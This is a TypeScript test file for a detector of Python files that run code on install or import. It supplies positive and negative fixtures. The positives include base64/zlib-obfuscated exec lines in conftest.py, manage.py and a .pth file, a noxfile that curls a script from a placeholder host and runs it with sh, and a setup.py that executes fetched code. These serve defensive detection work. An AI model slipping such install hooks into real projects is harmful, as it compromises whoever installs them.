import { testLures } from '../../../test/support/lures.ts';
import detector from './python-setup-runs.ts';

const b64 = Buffer.from('print("fixture")').toString('base64');

testLures(detector, {
  strong: {
    'decoded in conftest': { 'conftest.py': `import base64\nexec(base64.b64decode("${b64}"))\n` },
    'lambda nest': {
      'manage.py': `_ = lambda __: __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]));exec((_)(b'fixture'))\n`,
    },
    'starts a downloader': {
      'noxfile.py': 'import os\nos.system("curl -s https://fixture.invalid/a -o /tmp/a && sh /tmp/a")\n',
    },
    'pth line': { 'venv-extra.pth': `import base64;exec(base64.b64decode("${b64}"))\n` },
    sitecustomize: { 'sitecustomize.py': 'import subprocess\nsubprocess.Popen(["python", "a.py"])\n' },
  },
  proof: {
    'setup.py executes what it fetches': {
      'setup.py':
        'from setuptools import setup\nimport urllib.request\nexec(urllib.request.urlopen("https://fixture.invalid/a").read())\nsetup(name="a")\n',
    },
  },
  silent: {
    'usual setup': {
      'setup.py':
        'import os, subprocess\nfrom setuptools import setup\nexec(open("a/version.py").read())\nwith open("a/_v.py") as f:\n    exec(compile(f.read(), "v", "exec"))\nsubprocess.check_output(["git", "describe"])\nsetup(name="a")\n',
      'conftest.py':
        'import pytest\nimport requests\n\n@pytest.fixture\ndef client():\n    return requests.get("http://localhost")\n',
      'distutils-precedence.pth':
        "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_distutils_hack').add_shim();\n",
    },
    'a comment': { 'setup.py': '# exec(base64.b64decode(x))\nfrom setuptools import setup\nsetup()\n' },
  },
});
